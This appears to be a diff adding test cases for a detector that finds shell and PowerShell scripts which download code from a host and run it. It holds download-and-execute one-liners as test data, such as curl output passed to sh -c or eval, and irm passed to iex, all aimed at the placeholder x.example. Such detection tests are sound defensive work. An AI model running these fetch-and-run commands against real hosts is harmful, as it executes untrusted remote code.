@@ -58,10 +58,22 @@ test.each([
   ['SCRIPT=$(curl https://x.example)\nsh -c "$SCRIPT"'],
   ['A=1 B=$(curl https://x.example)\nsh -c "$B"'],
   ['S=$(curl https://x.example)\nsh -c "$OPTIONS; $S"'],
+  ['S=$(curl https://x.example)\nTEXT="set -e; $S"\nsh -c "$TEXT"'],
+  ['S=$(curl https://x.example)\nsh -c "${S:-exit}"'],
+  ['env=$(curl https://x.example)\nsh -c "$env:a"'],
+  ['S=$(curl https://x.example)\nexport TEXT=$S\neval "$TEXT"'],
   ['sh -c "$(curl https://x.example; curl https://y.example)"'],
 ])("%s runs what it has from a host", (script) => {
   expect(runIn(script)).toEqual(["x.example"]);
 });
+
+test.each([["env"], ["global"], ["script"]])(
+  "a variable of PowerShell has its name behind $%s:",
+  (place) => {
+    const script = `$${place}:text = irm https://x.example; iex $${place}:text`;
+    expect(runIn(script, POWERSHELL)).toEqual(["x.example"]);
+  },
+);
 
 test("a variable of PowerShell holds what it held where it is only changed", () => {
   const script = "$s = irm https://x.example; $s = 'a;' + $s; iex $s";
@@ -74,6 +86,7 @@ test.each([
   ['() | python - "$(curl https://x.example)"'],
   ['A=1 B=$(curl https://x.example)\nsh -c "$A"'],
   ['A=1 curl https://x.example\nsh -c "$A"'],
+  ['S=$(curl https://x.example)\nA=1 B=$S\nsh -c "$A"'],
 ])("%s runs nothing that it has from a host", (script) => {
   expect(runIn(script)).toEqual([]);
 });
